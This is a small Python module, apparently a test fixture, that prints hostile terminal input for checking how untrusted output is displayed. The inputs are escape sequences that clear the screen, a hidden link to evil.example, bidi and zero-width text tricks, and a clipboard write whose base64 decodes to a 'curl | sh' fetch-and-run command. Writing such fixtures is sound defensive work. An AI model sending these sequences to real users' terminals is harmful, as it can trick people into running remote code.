"""What a stranger may print who wants to reach a person's terminal, browser or patience through our screens."""

import sys
from typing import Final

MEGABYTE: Final = 1_000_000
HOSTILE: Final = (
    "\x1b[2J\x1b[H\x1b]0;you were here\x07",  # wipes the screen, renames the window
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07",  # fills the clipboard
    "\x1b]8;;http://evil.example/\x1b\\a friendly word\x1b]8;;\x1b\\",  # a link under it
    "\u202egnp.tuptuo\u202c \u2066hidden\u2069 \u200bnothing\u200b",  # from right to left, and of no width
    "\x00\x07\x08\x7f\x9b31m",
)


def make() -> None:
    """All of it, and a megabyte of one character without an end of line."""
    for text in HOSTILE:
        sys.stdout.write(f"{text}\n")
    sys.stdout.write("A" * MEGABYTE)
    sys.stdout.write("\n")
    sys.stdout.flush()
